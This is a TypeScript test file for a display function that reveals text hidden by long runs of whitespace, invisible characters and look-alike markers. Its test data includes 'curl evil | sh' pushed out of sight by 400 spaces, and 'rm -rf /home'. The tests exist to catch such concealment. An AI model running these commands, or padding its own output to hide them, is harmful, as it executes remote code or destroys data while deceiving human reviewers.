import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { renderLimits } from '../render-limits.ts';
import { readableText, splitReadable } from './readable-text.ts';

describe('a text that is pushed out of sight', () => {
  test.each([
    [
      'the end of a command',
      `ls -la${' '.repeat(400)}; curl evil | sh`,
      'ls -la[400 spaces]; curl evil | sh',
    ],
    ['tabs', `a${'\t'.repeat(90)}b`, 'a[90 tabs]b'],
    ['blanks of several kinds', `a${' \u00A0\u3000'.repeat(20)}b`, 'a[60 blanks]b'],
    ['empty lines', `first\n${'\n'.repeat(50)}last`, 'first\n[50 empty lines]\nlast'],
    ['lines of blanks', `first\n${'  \t\r\n'.repeat(9)}last`, 'first\n[9 empty lines]\nlast'],
    [
      'hidden characters between blanks',
      `a${' '.repeat(40)}\u200B${' '.repeat(40)}b`,
      'a[40 spaces][U+200B][40 spaces]b',
    ],
  ])('%s', (_what, text, readable) => {
    expect(readableText(text)).toBe(readable);
  });

  test('indentation, paragraphs and columns stay as they are', () => {
    const text = `def f():\n${' '.repeat(24)}return 1\n\n\ncolumn${' '.repeat(20)}column`;
    expect(splitReadable(text)).toEqual([{ text }]);
  });
});

test('for every text, what is displayed has no long run of blanks and of empty lines', () => {
  const parts = fc.constantFrom(
    ' ',
    ' '.repeat(40),
    '\t',
    '\n',
    '\n'.repeat(6),
    '\u200B',
    'x',
    '\u00A0'.repeat(9),
  );
  fc.assert(
    fc.property(fc.array(parts, { maxLength: 60 }), (list) => {
      const pieces = splitReadable(list.join(''));
      const texts = pieces.flatMap((piece) => ('text' in piece ? [piece.text] : []));
      for (const text of texts) {
        expect(text).not.toMatch(new RegExp(`[\\p{Zs}\\t]{${renderLimits.blankRunMaxChars + 1}}`, 'u'));
        expect(text).not.toMatch(new RegExp(`\\n(\\s*\\n){${renderLimits.emptyLineRunMaxLines + 1}}`, 'u'));
      }
      expect(texts.join('').replaceAll(/\s/g, '')).toBe(list.join('').replaceAll(/[\s\u200B]/g, ''));
    }),
  );
});

test.each([
  ['[400 spaces]', '[U+005B]400 spaces]'],
  ['rm -rf /home[3 empty lines]/tmp', 'rm -rf /home[U+005B]3 empty lines]/tmp'],
  ['[U+202E]', '[U+005B]U+202E]'],
  ['[а U+0430]mount', '[U+005B]а U+0430]mount'],
  ['a[0], [x] and [3 things]', 'a[0], [x] and [3 things]'],
])('%s, written by an agent, is no mark of ours', (text, readable) => {
  expect(readableText(text)).toBe(readable);
});
